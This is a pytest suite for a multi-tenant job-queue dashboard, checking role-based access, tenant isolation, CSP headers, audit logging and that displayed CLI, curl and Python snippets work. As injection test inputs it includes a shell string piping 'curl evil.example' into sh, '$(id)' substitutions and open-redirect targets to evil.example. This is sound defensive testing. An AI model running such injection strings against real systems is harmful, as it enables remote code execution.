"""Every page, by every role, on both stores: what it shows is what the API would."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Mapping
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode
from uuid import UUID

import click
import httpx2 as httpx
import pytest

from headway import Context, Headway
from headway.api import chapters
from headway.api.routes import PREFIX
from headway.cli.root import main as root
from headway.dashboard.action_table import ACTIONS, Action
from headway.dashboard.asset_files import Assets
from headway.dashboard.list_table import LISTS
from headway.dashboard.table import Page
from headway.dashboard.visit import Visit
from headway.model.connector import WEBHOOK
from tests.dashboard.conftest import HOSTILE, Dashboard

VIEWERS = {"viewer", "operator", "admin", "superadmin"}
PAGES = {
    "/": VIEWERS,
    "/?span=week": VIEWERS,
    "/jobs": VIEWERS,
    "/jobs?status=dead&order=oldest": VIEWERS,
    "/jobs/{dead}": {*VIEWERS, "producer"},
    "/jobs/{queued}": {*VIEWERS, "producer"},
    "/jobs/{waiting}": {*VIEWERS, "producer"},
    "/jobs/new": {*VIEWERS, "producer", "worker"},
    "/jobs/new?kind=send_email": {*VIEWERS, "producer", "worker"},
    "/machines": VIEWERS,
    "/trains": VIEWERS,
    "/trains?blocked=1": VIEWERS,
    "/trains/orders%2F7": VIEWERS,
    "/queues": VIEWERS,
    "/queues/mail": VIEWERS,
    "/triggers": VIEWERS,
    "/triggers?type=event": VIEWERS,
    "/errors": VIEWERS,
    "/errors?order=count&since=day&status=failed": VIEWERS,
    "/errors/{error}": VIEWERS,
    "/jobs?error={error}": VIEWERS,
    "/events": VIEWERS,
    "/templates": VIEWERS,
    "/connectors": VIEWERS,
    "/connectors?kind=connector.webhook.deliver": VIEWERS,
    "/connectors/new": {"admin", "superadmin"},
    "/connectors/{connector}/edit": {"admin", "superadmin"},
    "/artifacts": VIEWERS,
    "/audit": VIEWERS,
    "/definitions": {*VIEWERS, "producer", "worker"},
    "/keys": {"admin", "superadmin"},
    "/limits": {"superadmin"},
    "/workers": {"superadmin"},
    "/tenants": {"superadmin"},
    "/doctor": {"superadmin"},
    "/_components": {"superadmin"},
    "/jobs/{dead}/log": {*VIEWERS, "producer"},
    "/events/{event}": VIEWERS,
    "/events/try": VIEWERS - {"viewer"},
    "/triggers/{trigger}": VIEWERS,
    "/triggers/{trigger}/try": VIEWERS - {"viewer"},
    "/triggers/{trigger}/edit": {"admin", "superadmin"},
    "/triggers/new": {"admin", "superadmin"},
    "/triggers/new?type=event": {"admin", "superadmin"},
    "/templates/new": {"admin", "superadmin"},
    "/keys/new": {"admin", "superadmin"},
    "/tenants/new": {"superadmin"},
    "/limits/set": {"superadmin"},
    "/limits/set?scope=queue&name=mail": {"superadmin"},
    "/queues/mail/edit": {"superadmin"},
    "/definitions/new": {"superadmin"},
    "/definitions/send_email/edit": {"superadmin"},
}


OF_ALL_TENANTS = ("/doctor", "/tenants", "/workers", "/keys", "/audit")  # what a super admin sees is everybody's


def test_who_sees_which_page(dashboard: Dashboard, monkeypatch: pytest.MonkeyPatch) -> None:
    renderer = dashboard.site._renderer
    whole = renderer.page

    def with_its_live_parts(page: Page, visit: Visit | None, values: Mapping[str, Any]) -> str:
        html = whole(page, visit, values)
        for name, part in renderer.live_parts(page, visit).items() if visit is not None else ():
            assert part.strip()[:60] in html or f'id="{name}"' not in html, (page.template, name)
        return html

    monkeypatch.setattr(renderer, "page", with_its_live_parts)
    # who may is decided by the table of routes: one store is asked by all roles, the other by who sees everything
    everyone = ("viewer", "producer", "operator", "admin", "worker", "superadmin")
    for role in everyone if dashboard.app.url.startswith("sqlite") else ("viewer", "superadmin"):
        with dashboard.visitor(role) as visitor:
            base = "/t/acme" if role == "superadmin" else ""
            for page, roles in PAGES.items():
                answer = visitor.get(base + page.format(**dashboard.jobs))
                expected = 200 if role in roles else 404 if page == "/_components" else 403
                assert answer.status_code == expected, (role, page, answer.text)
                check_policy(answer)
                assert HOSTILE not in answer.text, (role, page)
                assert "<script>alert" not in answer.text, (role, page)
                assert "\u202e" not in answer.text, (role, page)
                assert "\x1b" not in answer.text, (role, page)
                assert "secret-of-globex" not in answer.text, (role, page)
                if page not in OF_ALL_TENANTS:
                    assert "globex" not in answer.text, (role, page)


def check_policy(answer: httpx.Response) -> None:
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert " style=" not in answer.text
    assert not re.search(r"<script(?![^>]* src=)", answer.text)
    assert not re.search(r"\son\w+=", re.sub(r">[^<]*<", "><", answer.text))


def test_what_is_of_a_tenant_leads_into_it_from_the_pages_about_all(dashboard: Dashboard) -> None:
    dashboard.app.enqueue("charge", {"cents": 5}, train="orders/7")  # another tenant's train of the same name
    train = "/t/acme/trains/orders%2F7"
    with dashboard.visitor("superadmin") as root:
        for page in ("/", "/trains", "/jobs", f"/jobs/{dashboard.jobs['car']}"):
            assert f'"{train}"' in root.get(page).text, page
        assert '<a class="tenant" href="/t/acme/">acme</a>' in root.get("/triggers").text
        for page in ("/", "/trains"):
            assert "/t/acme/do/resume-train?key=orders%2F7" in root.get(page).text, page
        for page in ("/triggers", "/events", "/templates", "/connectors", "/keys", "/audit"):
            assert '<span class="sub"><a class="tenant" href="/t/acme/">acme</a></span>' in root.get(page).text, page
            assert 'class="tenant" href="/t/' not in root.get(f"/t/acme{page}").text, page
        assert '<span class="sub">of all tenants</span>' in root.get("/keys").text
        asked = root.get("/t/acme/do/resume-train?key=orders%2F7").text
        assert "headway trains resume orders/7 --tenant acme<" in asked
        assert "app.tenant(&#34;acme&#34;).resume_train(&#34;orders/7&#34;" in asked
        assert "headway trains list --tenant acme<" in root.get("/t/acme/trains").text
        found = re.findall(r'data-status="\w+"><svg.*?</svg>(ok|note|problem)<', root.get("/doctor").text)
        assert found == sorted(found, key=("problem", "note", "ok").index)
        assert found[0] == "problem"
        assert "Slots in use" in root.get("/").text
        assert "Slots in use" not in root.get("/t/acme/").text, "the fleet serves all tenants"
        retried = re.search(r'name="filter" value="([^"]+)"', root.get("/").text)
        assert retried is not None
        question = root.post("/bulk", data={"action": "retry", "of": "filter", "filter": unescape(retried[1])})
        assert "Retry 1 job?" in question.text
        done = root.post("/t/acme/do/resume-train", data={"key": "orders/7", "back": "/?span=day"})
        assert (done.status_code, done.headers["location"]) == (303, "/?span=day")
        assert root.get(train).text.count("on hold") == 0
        away = root.post("/t/acme/do/hold-train", data={"key": "orders/7", "back": "//evil.example"})
        assert away.headers["location"] == "/t/acme/"
    with dashboard.visitor("admin") as admin:
        assert f'"{train}"' not in admin.get("/trains").text
        assert '"/trains/orders%2F7"' in admin.get("/trains").text


def test_the_overview_of_a_new_tenant_says_how_to_begin(dashboard: Dashboard) -> None:
    new = dashboard.app.tenant("new")
    with httpx.Client(base_url=dashboard.url, headers={"Sec-Fetch-Site": "same-origin"}) as client:
        client.post("/login", data={"key": new.create_api_key("first", "admin").text})
        assert "Nothing has run yet" in client.get("/").text
        assert "nothing in this time" in client.get("/").text
        new.enqueue("send_email", {"to": "x"})
        assert "Nothing has run yet" not in client.get("/").text


def test_nobody_sees_anything_without_a_key(dashboard: Dashboard) -> None:
    with httpx.Client(base_url=dashboard.url) as stranger:
        for page in PAGES:
            answer = stranger.get(page.format(**dashboard.jobs))
            assert answer.status_code == 303
            assert answer.headers["location"].startswith("/login?next=%2F")
        assert stranger.get("/login").status_code == 200
        assert stranger.post("/do/cancel-job", data={"id": dashboard.jobs["queued"]}).status_code == 401
        assert stranger.get("/live").status_code == 303


def test_a_button_does_what_it_says_and_tells_the_audit_who(dashboard: Dashboard) -> None:
    job_id = dashboard.jobs["queued"]
    with dashboard.visitor("operator") as operator:
        question = operator.get("/do/cancel-job", params={"id": job_id, "back": f"/jobs/{job_id}"})
        assert "The job will not run" in question.text
        assert f"headway jobs cancel {job_id}" in question.text
        answer = operator.post("/do/cancel-job", data={"id": job_id, "back": f"/jobs/{job_id}", "reason": "a test"})
        assert answer.headers["location"] == f"/jobs/{job_id}"
        assert "canceled, or was asked" in operator.get(f"/jobs/{job_id}").text
        assert "canceled, or was asked" not in operator.get(f"/jobs/{job_id}").text  # it says so once
        outside = operator.post("/do/retry-job", data={"id": job_id, "back": "https://evil.example/"})
        assert outside.headers["location"] == "/"
    entries = dashboard.app.audit(job_id)
    assert [each.action for each in entries] == ["cancel", "retry"]
    assert all(each.actor and each.actor.startswith("key:") and each.request_id for each in entries)


def test_a_job_page_lists_its_artifacts_to_download(dashboard: Dashboard, tmp_path: Path) -> None:
    code = Headway(dashboard.app.url, artifacts=str(tmp_path), result_limit=1_000)

    @code.job(queue="files", spill=True)
    def export(ctx: Context) -> str:
        ctx.artifact("März & Co.csv", "x" * 2_048)
        return "y" * 5_118  # too large for the job's row

    job = export.using(tenant="acme").enqueue()
    code.run("files", until_idle=True)
    result, found = code.artifacts(job.id)
    code.close()
    with dashboard.visitor("viewer") as viewer:
        for listed in ("/artifacts", f"/artifacts?job={job.id}"):
            assert f'href="/api/v1/artifacts/{found.id}/content">März &amp; Co.csv</a>' in viewer.get(listed).text
        assert "stored no artifact" in viewer.get(f"/artifacts?job={dashboard.jobs['dead']}").text
        assert viewer.get("/artifacts?job=seven").status_code == 422
        page = viewer.get(f"/jobs/{job.id}").text
        assert 'id="artifacts"' not in viewer.get(f"/jobs/{dashboard.jobs['dead']}").text
        (link,) = re.findall(r'<a download href="([^"]+)"[^>]*>März &amp; Co.csv</a>', page)
        assert "2.0 KiB" in page
        assert "5.0 KiB of JSON" in page
        assert f'<a class="button" download href="/api/v1/artifacts/{result.id}/content"' in page
        assert "$artifact" not in page
        assert viewer.get(f"/jobs/{job.id}/beginning/result").status_code == 409
        # the visitor's session opens it; this server does not have that folder
        answer = viewer.get(link)
        assert (answer.status_code, answer.json()["code"]) == (409, "ArtifactElsewhere")
    with dashboard.visitor("stranger") as stranger:
        assert found.id not in stranger.get("/artifacts").text
    with dashboard.visitor("superadmin") as root_user:
        assert '<a class="tenant" href="/t/acme/">acme</a>' in root_user.get("/artifacts").text
    assert link == f"/api/v1/artifacts/{found.id}/content"


@pytest.fixture
def artifact_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """For the server, too, which starts after this."""
    monkeypatch.setenv("HEADWAY_ARTIFACTS", str(tmp_path / "artifacts"))


@pytest.mark.usefixtures("artifact_folder")
def test_a_payload_and_a_result_too_large_for_their_row_begin_on_the_page(dashboard: Dashboard) -> None:
    code = Headway(dashboard.app.url, payload_limit=1_000, result_limit=1_000, strict_kinds=False)

    @code.job(queue="files", spill=True)
    def load(rows: list[dict[str, str]]) -> list[str]:
        return [HOSTILE] * 200

    rows = [{"name": f"customer {n}", "password": "hunter2"} for n in range(2_000)]
    job = code.tenant("acme").enqueue("load", {"rows": rows})
    looks = code.tenant("acme").enqueue("nobody_knows", {"$artifact": code.artifacts(job.id)[0].id})
    code.run("files", until_idle=True)
    code.close()
    with dashboard.visitor("viewer") as viewer:
        page = viewer.get(f"/jobs/{job.id}").text
        assert page.count("which is too large for the job") == 2
        assert "$artifact" not in page
        for of, begins in (("payload", "customer 7&#34;"), ("result", "\\u202e")):
            answer = viewer.get(f"/jobs/{job.id}/beginning/{of}")
            assert begins in answer.text
            assert "<script>alert" not in answer.text
            assert "hunter2" not in answer.text
            check_policy(answer)
        assert "the first 16.0 KiB of " in viewer.get(f"/jobs/{job.id}/beginning/payload").text
        assert viewer.get(f"/jobs/{dashboard.jobs['dead']}/beginning/payload").status_code == 404
        assert "$artifact" in viewer.get(f"/jobs/{looks.id}").text, "what a caller gave is shown as it is"
        assert viewer.get(f"/jobs/{looks.id}/beginning/payload").status_code == 404
    with dashboard.visitor("stranger") as stranger:
        assert stranger.get(f"/jobs/{job.id}/beginning/payload").status_code == 404


def test_many_jobs_are_counted_before_anything_happens(dashboard: Dashboard) -> None:
    acme = dashboard.app.tenant("acme")
    acme.enqueue_many(acme.build_job("send_email", {"to": "many@example.com"}, tags=("many",)) for _ in range(150))
    with dashboard.visitor("operator") as operator:
        form = {"action": "cancel", "of": "filter", "filter": '{"tag": ["many"]}', "back": "/jobs?tag=many"}
        question = operator.post("/bulk", data=form)
        assert "Cancel 150 jobs?" in question.text
        tenant = acme.tenant_id
        assert f"headway jobs cancel --tag many --tenant {tenant}<" in question.text
        assert f"app.tenant(UUID(&#34;{tenant}&#34;)).cancel_jobs(tags=&#34;many&#34;)" in question.text
        assert acme.counts()["queued"] == 151
        token = re.search(r'name="token" value="([^"]+)"', question.text)
        assert token is not None
        do = {"action": "cancel", "token": token[1], "count": "150", "back": "/jobs?tag=many"}
        assert operator.post("/bulk/do", data=do).status_code == 422
        assert acme.counts()["queued"] == 151
        done = operator.post("/bulk/do", data=do | {"typed": "150"})
        assert done.headers["location"] == "/jobs?tag=many"
        assert "150 jobs canceled" in operator.get("/jobs?tag=many").text
        assert acme.counts()["queued"] == 1
        some = [dashboard.jobs["queued"], dashboard.jobs["succeeded"]]
        chosen = operator.post("/bulk", data={"action": "cancel", "of": "selected", "id": some, "back": "/jobs"})
        assert "Cancel 1 job?" in chosen.text, "the other one has ended"
        assert f"headway jobs cancel {some[0]} {some[1]}<" in chosen.text
        token = re.search(r'name="token" value="([^"]+)"', chosen.text)
        assert token is not None
        operator.post("/bulk/do", data={"action": "cancel", "token": token[1], "count": "1", "back": "/jobs"})
        assert "1 job canceled, or asked to stop" in operator.get("/jobs").text
        assert "canceled" not in acme.get(dashboard.jobs["succeeded"]).status


def test_a_form_is_made_of_the_definition(dashboard: Dashboard) -> None:
    with dashboard.visitor("operator") as operator:
        form = operator.get("/jobs/new?kind=send_email")
        assert 'name="p.to"' in form.text
        assert 'name="p.number"' in form.text
        made = operator.post("/jobs/new", data={"kind": "send_email", "p.to": HOSTILE, "p.number": "7"})
        assert made.status_code == 303, made.text
        job = dashboard.app.get(made.headers["location"].removeprefix("/jobs/"))
        assert job.payload == {"to": HOSTILE, "number": 7}
        wrong = operator.post("/jobs/new", data={"kind": "send_email", "p.to": "x", "p.number": "seven"})
        assert wrong.status_code == 422
        assert "number is not a number" in wrong.text
        assert 'value="seven"' in wrong.text
        assert not re.search(r'"aria-|checkedaria', form.text)
        again = operator.get(f"/jobs/new?like={job.id}")
        assert 'value="7"' in again.text
        late = operator.post("/jobs/new", data={"kind": "send_email", "p.to": "x", "delay": "soon"})
        assert re.search(r'id="o-delay-wrong">[^<]*is not a duration', late.text)
        bare = operator.post("/jobs/new", data={"kind": "charge", "p.cents": "1.5"})
        assert re.search(r'id="p-1-says"><span class="wrong">[^<]*does not fit the schema at \$\.cents', bare.text)
        secret = dashboard.app.tenant("acme").enqueue("approval", {"document": "d"}, delay="1h").id
        dashboard.app.change(secret, payload={"document": "d", "password": "hunter2"})
        form = operator.get(f"/jobs/new?like={secret}")
        assert "hunter2" not in form.text


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
def test_every_button_is_a_route_and_a_command(action: Action) -> None:
    assert (action.method, action.path) in {(route.method, route.path) for route in chapters.ROUTES}
    assert action.undo is None or action.undo in ACTIONS
    words = [word for word in shlex.split(action.cli.replace("{", "").replace("}", "")) if word.islower()]
    found: click.Command = root
    for word in words:
        if not isinstance(found, click.Group):
            break
        command = found.get_command(click.Context(found), word)
        assert command is not None, f"headway {action.cli}: there is no {word!r}"
        found = command
    assert not isinstance(found, click.Group)
    assert hasattr(Headway, action.python.split(".")[1].split("(")[0])


def test_every_list_shows_itself_as_a_command_a_request_and_a_call(dashboard: Dashboard) -> None:
    job = "/jobs?status=dead&kind=send_email+charge&tag=a+b&order=oldest"
    error = "/errors?since=day&kind=send_email&status=failed&order=count"
    cars = "/jobs?train=orders/7&train=a+b"
    filtered = [
        *(
            job,
            error,
            cars,
            "/trains?blocked=1",
            "/events?name=order.paid&status=pending",
            f"/connectors?kind={WEBHOOK}",
        ),
        *(f"/artifacts?job={dashboard.jobs['dead']}", "/audit?actor=o'neill&action=pause", "/t/acme/queues"),
    ]
    all_tenants = _copied_from(dashboard, "superadmin", [*LISTS, *filtered, "/t/default/jobs"])
    acme = dashboard.app.get_tenant("acme").id
    own = _copied_from(dashboard, "admin", ["/triggers", "/triggers?type=event", "/trains?blocked=1", job, cars])
    for page, cli, path, python in (
        ("/triggers", "schedules list", "/jobs/triggers?trigger_type=schedule", "schedules()"),
        ("/triggers?type=event", "triggers list", "/jobs/triggers?trigger_type=event", "triggers()"),
        ("/trains?blocked=1", "trains list --blocked", "/trains?blocked=true", "trains(blocked=True)"),
        (
            job,
            "jobs list --status dead --kind send_email --kind charge --tag a --tag b --order oldest",
            "/jobs?status=dead&kind=send_email&kind=charge&tag=a&tag=b&order=oldest",
            'jobs(status="dead", kind=["send_email", "charge"], tags=["a", "b"], order="oldest")',
        ),
        (
            cars,
            "jobs list --train orders/7 --train 'a b'",
            "/jobs?train=orders%2F7&train=a+b",
            'jobs(train=["orders/7", "a b"])',
        ),
    ):
        assert all_tenants[page] == (f"headway {cli}", path, f"app.{python}")
        assert own[page] == (f"headway {cli} --tenant {acme}", path, f'app.tenant(UUID("{acme}")).{python}')
    assert all_tenants["/t/acme/queues"] == ("headway queues list", "/queues", 'app.tenant("acme").queues()')
    assert all_tenants["/t/default/jobs"][0] == "headway jobs list --tenant default"
    assert "--since 1d " in all_tenants[error][0]


def _copied_from(dashboard: Dashboard, role: str, pages: list[str]) -> dict[str, tuple[str, ...]]:
    """What the pages show as command, as path of the API, and as call; each is one that works."""
    found = {}
    with dashboard.visitor(role) as visitor:
        for page in pages:
            cli, curl, python = map(unescape, re.findall(r"<dd><pre>(.*?)</pre>", visitor.get(page).text)[-3:])
            command: click.Command | None = root
            words = shlex.split(cli)[1:]
            while isinstance(command, click.Group) and words and not words[0].startswith("-"):
                command = command.get_command(click.Context(command), words.pop(0))
            assert command is not None, cli
            command.make_context(cli, words)  # which refuses an option that it does not have
            headers = dict(each.split(": ", 1) for each in shlex.split(curl) if ": " in each)
            address = shlex.split(curl)[-1]
            headers["Authorization"] = f"Bearer {dashboard.keys[role]}"
            assert httpx.get(address, headers=headers).status_code == 200, curl
            eval(python, {"app": dashboard.app, "UUID": UUID})
            found[page] = cli, address.split(PREFIX, 1)[1], python
    return found


@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "`id`", 'it\'s "one"', "--all", "a/b {id}"])
def test_a_copied_command_takes_any_name_as_one_word(dashboard: Dashboard, name: str) -> None:
    listed = f"/jobs?{urlencode({'train': name, 'correlation_id': name})}"
    shown = shlex.split(_copied_from(dashboard, "admin", [listed])[listed][0])
    assert f"--train={name}" in shown if name.startswith("-") else name in shown
    with dashboard.visitor("admin") as admin:
        for action, words in {"hold-train": ["trains", "hold"], "clear-train": ["trains", "clear"]}.items():
            page = admin.get(f"/do/{action}", params={"key": name}).text
            cli, curl, python = map(unescape, re.findall(r"<dd><pre>(.*?)</pre>", page)[-3:])
            typed = shlex.split(cli)[1:]
            assert typed[:2] == words
            assert typed[-2:] == ["--", name] if name.startswith("-") else typed[2] == name
            assert curl.count(quote(name, safe="")) == 1
            assert python.count(repr(name)) or python.count(json.dumps(name)) == 1


def test_a_job_links_to_what_is_in_its_way_and_shows_its_states(dashboard: Dashboard) -> None:
    with dashboard.visitor("viewer") as viewer:
        car = viewer.get(f"/jobs/{dashboard.jobs['car']}").text
        why = car.partition('class="why"')[2].partition("</ul>")[0]
        assert '<a href="/trains/orders%2F7">' in why or dashboard.jobs["locomotive"] in why, why
        machine = viewer.get(f"/jobs/{dashboard.jobs['waiting']}").text
        steps = machine.partition('id="steps"')[2].partition("</section>")[0]
        assert ">start</td>" in steps
        assert "&lt;script&gt;" in steps


def test_files_are_few_named_by_content_and_kept(dashboard: Dashboard) -> None:
    assert Assets().size < 100_000
    with httpx.Client(base_url=dashboard.url) as anybody:
        names = set(re.findall(r'/assets/([^"]+)', anybody.get("/login").text))
        assert names
        for name in names:
            answer = anybody.get(f"/assets/{name}")
            assert answer.status_code == 200
            assert "immutable" in answer.headers["cache-control"]
        assert anybody.get("/assets/../site.py").status_code in (303, 404)
        assert anybody.get("/assets/tokens.css").status_code == 404
